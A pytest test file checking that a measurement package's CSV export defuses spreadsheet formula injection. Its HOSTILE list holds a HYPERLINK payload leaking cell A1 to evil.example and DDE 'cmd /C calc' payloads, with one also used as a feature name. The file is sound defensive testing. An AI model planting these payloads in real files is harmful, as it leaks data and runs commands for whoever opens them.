"""Tables that a spreadsheet shows and does not calculate, and that say the same when read again."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import robotrue
from robotrue.core.csv_text import as_written, csv_remark, csv_text
from robotrue.measurement.formats.part_points import read_points, write_points
from robotrue.measurement.probing_set import ProbingSet
from robotrue.measurement.touch_session import (
    ProbingSession,
    TouchFeature,
    TouchReading,
    session_csv,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/"&A1,"open")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1-1",
    "\uff1d1+1",  # the wide sign of East Asia
    "  =1+1",
    "'=1+1",
    "hole;=1+1;x",
    "hole\t=1+1",
    "\t=1+1",
)
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20\t\r\n"


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may calculate a cell; a number it only shows."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(" ")[:1] in tuple(TRIGGERS)
    return False


def split(text: str, separator: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula_wherever_it_is_split(name: str, separator: str) -> None:
    text = csv_text([["name", "x_mm"], [name, -1.5], ["hole 1", "-2.5e-3"]])
    assert not any(map(is_formula, split(text, separator)))
    assert not any(map(is_formula, split(csv_remark(f"KR, {name}; ,=x"), separator)))


@example(["'\t", " \t", "' =", "''-1"])
@given(st.lists(st.text(alphabet="ab'\" ,;|1.-+=@\t\uff1d", max_size=8), min_size=1, max_size=4))
def test_what_is_written_is_read(cells: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(csv_text([[*cells, "end"]])))
    assert [as_written(cell) for cell in row] == [*cells, "end"]
    assert not any(map(is_formula, row))


def test_numbers_stay_as_they_are_printed() -> None:
    assert (
        csv_text([[-1.5, "+2", "-0.25", None, "", True, "1e-9"]]) == "-1.5,+2,-0.25,,,True,1e-9\n"
    )


def test_touched_points_keep_the_names_of_their_features(tmp_path: Path) -> None:
    names = ('=cmd|"/C calc"!A0', "-X side", "'=quoted", "plain; with")
    touches = ProbingSet(
        names=names, point=np.eye(4, 3), joints=np.empty((0, 0)), position=np.eye(4, 3)
    )
    write_points(tmp_path / "p.csv", touches)
    text = (tmp_path / "p.csv").read_text()
    assert not any(map(is_formula, split(text, ",") + split(text, ";")))
    assert read_points(tmp_path / "p.csv").touches.names == names


def test_readings_of_a_session_are_handed_out_the_same_way() -> None:
    session = ProbingSession(
        features=(TouchFeature(name=HOSTILE[0], part=1, point_mm=(1.0, -2.0, 3.0)),),
        parts=("front", "=1+1"), rough=(), reads="position", settings={},
    )  # fmt: skip
    text = session_csv(
        session, [TouchReading(feature=0, state="kept", values=(-1.0, 2.0, 3.0))], np.array
    )
    assert "-1.0" in text.decode().split(",")
    assert not any(map(is_formula, split(text.decode(), ",")))


def test_the_rule_stands_in_one_place() -> None:
    room = Path(robotrue.__file__).parent
    writers = [p.name for p in room.rglob("*.py") if "csv.writer" in p.read_text()]
    assert writers == []
